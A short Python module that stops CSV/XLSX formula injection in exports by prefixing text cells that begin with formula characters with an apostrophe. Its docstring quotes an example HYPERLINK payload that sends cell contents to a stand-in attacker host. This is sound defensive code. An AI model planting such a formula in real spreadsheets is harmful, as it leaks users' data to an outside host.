"""Cells for CSV and XLSX exports that a spreadsheet program will never run as a formula.

Names, descriptions and notes are typed by people. A cell that starts with `=`, `+`, `-` or `@`
(or a tab or line break before one) is run as a formula by Excel and LibreOffice, so
`=HYPERLINK("https://evil.example/?"&A1, "klik")` would leak the sheet (OWASP "CSV injection").
Such text gets a leading apostrophe; numbers, amounts and dates stay what they are.
"""

import datetime as dt
from collections.abc import Iterable
from decimal import Decimal

FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")
_PLAIN_TYPES = (int, float, Decimal, dt.date, dt.time, dt.timedelta)


def safe_cell(value):
    if value is None or isinstance(value, _PLAIN_TYPES):  # bool is an int
        return value
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_START) else text


def safe_row(values: Iterable) -> list:
    return [safe_cell(value) for value in values]
